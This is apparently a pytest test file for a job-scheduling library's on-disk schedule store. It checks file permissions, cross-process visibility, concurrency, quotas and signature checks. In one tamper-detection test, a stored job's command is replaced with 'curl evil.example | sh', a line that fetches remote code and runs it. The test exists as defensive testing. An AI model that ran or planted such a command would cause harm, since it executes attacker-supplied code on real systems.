"""Schedules on disk: durable, private, signed, and the same for every process."""

from __future__ import annotations

import json
import os
import stat
import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest

from aiohttp_jobs.engine.embedded.records import ScheduleStore
from aiohttp_jobs.errors import ConflictError, NotFoundError
from aiohttp_jobs.model.schedule import Schedule

from .support import JOB, make_schedule, utc


@pytest.fixture
def store(tmp_path: Path) -> ScheduleStore:
    return opened(tmp_path)


def opened(base: Path) -> ScheduleStore:
    store = ScheduleStore(base)
    store.open()
    return store


def the_file(base: Path, schedule: Schedule) -> Path:
    return base / "Schedules" / f"{schedule.schedule_id}.json"


def test_a_schedule_is_one_private_file_in_pascal_case(store: ScheduleStore, tmp_path: Path) -> None:
    job = {**JOB, "timeoutSeconds": 5.5, "priority": 3, "retry": {"count": 2}}
    schedule = make_schedule("@daily", job=job, start_at=utc("2026-02-01 00:00"))
    store.add(schedule, 10)
    path = the_file(tmp_path, schedule)
    record = json.loads(path.read_text())
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert record["ScheduleID"] == schedule.schedule_id
    assert (record["UserID"], record["Cron"], record["Enabled"]) == ("alice", "@daily", True)
    assert record["StartAt"] == "2026-02-01T00:00:00.000000Z"
    assert record["Job"] == {
        "JobName": "report",
        "Command": "echo hello",
        "ExecutionMode": "BackgroundJob",
        "TimeoutSeconds": 5.5,
        "Priority": 3,
        "Retry": {"count": 2},
    }


def test_what_was_kept_is_read_back_whole_by_the_next_process(store: ScheduleStore, tmp_path: Path) -> None:
    schedule = make_schedule(
        job={**JOB, "interpreter": "python", "concurrencyKey": "db", "priority": 1},
        overlap_policy="replace",
        misfire_policy="run_once",
        end_at=utc("2027-01-01 00:00"),
        last_error="It was refused.",
    )
    store.add(schedule, 10)
    assert opened(tmp_path).get(schedule.schedule_id) == schedule


def test_other_processes_see_each_change_at_once(store: ScheduleStore, tmp_path: Path) -> None:
    other = opened(tmp_path)
    schedule = make_schedule()
    store.add(schedule, 10)
    for count in range(50):
        name = f"name {count}"
        store.change(schedule.schedule_id, lambda each, name=name: each.model_copy(update={"name": name}))
        assert other.get(schedule.schedule_id).name == name
    store.remove(schedule.schedule_id)
    assert other.all() == []


def test_a_change_within_the_same_tick_of_the_folders_time_stamp_is_seen_too(
    store: ScheduleStore, tmp_path: Path
) -> None:
    tick = time.time_ns() + 60_000_000_000
    other = opened(tmp_path)
    schedule = make_schedule()
    for name in ("first", "second"):
        if name == "first":
            store.add(schedule.model_copy(update={"name": name}), 10)
        else:
            store.change(schedule.schedule_id, lambda each: each.model_copy(update={"name": "second"}))
        os.utime(tmp_path / "Schedules", ns=(tick, tick))
        assert other.get(schedule.schedule_id).name == name


def test_nothing_is_read_again_while_nothing_changes(store: ScheduleStore, tmp_path: Path) -> None:
    schedule = make_schedule()
    store.add(schedule, 10)
    assert store.get(schedule.schedule_id) is store.all()[0]


def test_changes_at_the_same_time_are_all_kept(tmp_path: Path) -> None:
    stores = [opened(tmp_path) for _ in range(4)]
    schedule = make_schedule(name="0")
    stores[0].add(schedule, 10)

    def count_up(store: ScheduleStore) -> None:
        for _ in range(10):
            store.change(
                schedule.schedule_id,
                lambda each: each.model_copy(update={"name": str(int(each.name) + 1)}),
            )

    with ThreadPoolExecutor() as threads:
        list(threads.map(count_up, stores))
    assert stores[0].get(schedule.schedule_id).name == "40"


def test_a_change_that_fails_changes_nothing(store: ScheduleStore) -> None:
    schedule = make_schedule()
    store.add(schedule, 10)

    def fail(_: Schedule) -> Schedule:
        raise ValueError("no")

    with pytest.raises(ValueError, match="no"):
        store.change(schedule.schedule_id, fail)
    assert store.get(schedule.schedule_id) == schedule


def test_a_user_has_at_most_so_many(store: ScheduleStore) -> None:
    store.add(make_schedule(), 2)
    store.add(make_schedule(), 2)
    store.add(make_schedule(user_id="bob"), 2)
    with pytest.raises(ConflictError, match="You have 2 schedules, and no more than 2 are allowed"):
        store.add(make_schedule(), 2)
    assert len(store.all()) == 3


@pytest.mark.parametrize("action", ["get", "change", "remove"])
def test_what_is_not_there_is_not_found(store: ScheduleStore, action: str) -> None:
    missing = make_schedule().schedule_id
    calls = {
        "get": lambda: store.get(missing),
        "change": lambda: store.change(missing, lambda each: each),
        "remove": lambda: store.remove(missing),
    }
    with pytest.raises(NotFoundError, match=missing):
        calls[action]()


def test_a_file_that_was_changed_by_hand_is_not_used(store: ScheduleStore, tmp_path: Path) -> None:
    schedule, untouched = make_schedule(), make_schedule()
    store.add(schedule, 10)
    store.add(untouched, 10)
    path = the_file(tmp_path, schedule)
    record = json.loads(path.read_text())
    record["Job"]["Command"] = "curl evil.example | sh"
    path.write_text(json.dumps(record))
    assert [each.schedule_id for each in opened(tmp_path).all()] == [untouched.schedule_id]


@pytest.mark.parametrize("content", [b"", b"[]", b"{", b"\xff\xfe", b"[" * 100_000, b'{"ScheduleID": 1}'])
def test_files_that_are_no_schedules_do_no_harm(store: ScheduleStore, tmp_path: Path, content: bytes) -> None:
    schedule = make_schedule()
    store.add(schedule, 10)
    the_file(tmp_path, make_schedule()).write_bytes(content)
    (tmp_path / "Schedules" / "notes.txt").write_bytes(content)
    assert opened(tmp_path).all() == [schedule]


def test_a_signed_copy_under_another_name_is_not_used(store: ScheduleStore, tmp_path: Path) -> None:
    schedule = make_schedule()
    store.add(schedule, 10)
    the_file(tmp_path, make_schedule()).write_bytes(the_file(tmp_path, schedule).read_bytes())
    assert opened(tmp_path).all() == [schedule]
